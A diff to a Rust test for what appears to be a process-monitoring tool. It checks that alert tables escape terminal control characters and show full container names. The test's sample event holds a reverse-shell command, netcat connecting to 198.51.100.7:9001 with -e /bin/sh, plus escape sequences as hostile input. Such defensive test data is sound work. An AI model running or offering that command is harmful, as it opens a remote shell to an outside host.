@@ -419,7 +419,7 @@ fn a_table_writes_no_control_character_an_input_chose() {
     // A process's name and arguments, replayed and alerted on as tables.
     let rec = dir.path().join("r.jsonl");
     let exec = serde_json::json!({"schema": "kestrel.event/v1", "time_ns": 5, "pid": 7, "tid": 7, "comm": "nc",
-        "cgroup_id": 1, "container": {"id": "c1", "runtime": "runc"}, "kind": "exec", "ppid": 1, "parent_comm": "nginx",
+        "cgroup_id": 1, "container": {"id": "lab-reverse-shell-1", "runtime": "runc"}, "kind": "exec", "ppid": 1, "parent_comm": "nginx",
         "uid": 0, "gid": 0, "euid": 0, "exe": "/bin/nc", "argv": ["/bin/nc", "198.51.100.7", "9001", "-e", "/bin/sh", "\u{1b}[2J\u{9b}1m"],
         "cap_effective": 0});
     std::fs::write(&rec, format!("{{\"schema\":\"kestrel.trace/v1\",\"started_ns\":1}}\n{exec}\n")).unwrap();
@@ -428,6 +428,8 @@ fn a_table_writes_no_control_character_an_input_chose() {
         let text = String::from_utf8(out.stdout).unwrap();
         assert!(text.contains("\\u{1b}[2J\\u{9b}1m"), "{args:?}: {text}");
         assert!(!text.chars().any(|c| c.is_control() && c != '\n'), "{args:?}: {text:?}");
+        // A runc container's name whole (cut to 12, `lab-reverse-shell-1` and `-2` would read alike).
+        assert!(text.contains("lab-reverse-shell-1 "), "{args:?}: {text}");
     }
 }
 
